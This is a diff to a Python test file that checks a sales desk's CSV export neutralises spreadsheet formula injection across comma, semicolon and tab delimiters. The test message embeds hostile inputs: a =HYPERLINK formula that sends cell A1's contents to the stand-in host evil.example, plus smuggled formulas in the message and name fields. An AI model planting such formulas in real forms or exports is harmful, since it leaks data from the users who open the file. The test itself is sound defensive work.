@@ -103,7 +103,17 @@ def test_a_formula_is_text_in_a_spreadsheet(site, sales, formula):
     file = sales.get(f"{DESK}.csv?q={inquiry['reference']}", 200).content.decode("utf-8-sig")
     cell = next(csv.DictReader(io.StringIO(file, newline="")))["message"]
     dangerous = cell.lstrip("\u200b\ufeff \n\t\r")[:1] in tuple("=+-@|%＝＋－＠")
-    assert not dangerous and cell.lstrip("'") == inquiry["message"].lstrip("'")
+    assert not dangerous and cell.replace("'", "") == inquiry["message"].replace("'", "")
+
+
+def test_no_cell_is_a_formula_for_a_spreadsheet_that_separates_otherwise(site, sales):
+    message = 'Bonjour à tous\n=1+1;=2+2;"=3+3\t@x;\u200e=4+4; - tiret\n=HYPERLINK("https://evil.example/?x="&A1,"Ouvrir")'
+    inquiry = found(sales, Form(site, message=message, name="Évile;=5+5").reference())
+    file = sales.get(f"{DESK}.csv?q={inquiry['reference']}", 200).content.decode("utf-8-sig")
+    for delimiter in ",;\t":
+        for row in csv.reader(io.StringIO(file, newline=""), delimiter=delimiter):
+            for cell in row:
+                assert cell.strip("\u200e\u200b\ufeff \"\n\t\r")[:1] not in tuple("=+-@|%"), (delimiter, cell)
 
 
 def test_strings_that_break_things_break_nothing(site, sales, corpus, server):
